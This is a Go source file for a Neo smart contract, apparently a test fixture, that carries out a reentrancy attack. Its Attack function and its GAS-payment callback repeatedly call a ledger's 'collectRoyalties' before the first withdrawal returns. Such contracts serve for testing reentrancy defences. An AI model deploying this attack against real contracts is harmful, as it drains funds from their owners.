package reentrant

import (
	"github.com/nspcc-dev/neo-go/pkg/interop"
	"github.com/nspcc-dev/neo-go/pkg/interop/contract"
	"github.com/nspcc-dev/neo-go/pkg/interop/runtime"
	"github.com/nspcc-dev/neo-go/pkg/interop/storage"
)

const (
	ledgerKey = "ledger"
	amountKey = "amount"
)

func _deploy(data any, isUpdate bool) {
	if isUpdate {
		return
	}
	args := data.([]any)
	storage.Put(storage.GetContext(), ledgerKey, args[0].(interop.Hash160))
}

// Attack withdraws amount from the ledger; OnNEP17Payment below re-enters
// the ledger from the GAS receive callback before the first withdrawal
// returns.
func Attack(amount int) {
	ctx := storage.GetContext()
	storage.Put(ctx, amountKey, amount)

	self := runtime.GetExecutingScriptHash()
	ledger := storage.Get(ctx, ledgerKey).(interop.Hash160)
	contract.Call(ledger, "collectRoyalties", contract.All, self, amount, self)
}

func OnNEP17Payment(from interop.Hash160, amount int, data any) {
	ctx := storage.GetContext()
	withdraw := storage.Get(ctx, amountKey)
	if withdraw == nil {
		return
	}

	self := runtime.GetExecutingScriptHash()
	ledger := storage.Get(ctx, ledgerKey).(interop.Hash160)
	contract.Call(ledger, "collectRoyalties", contract.All, self, withdraw.(int), self)
}
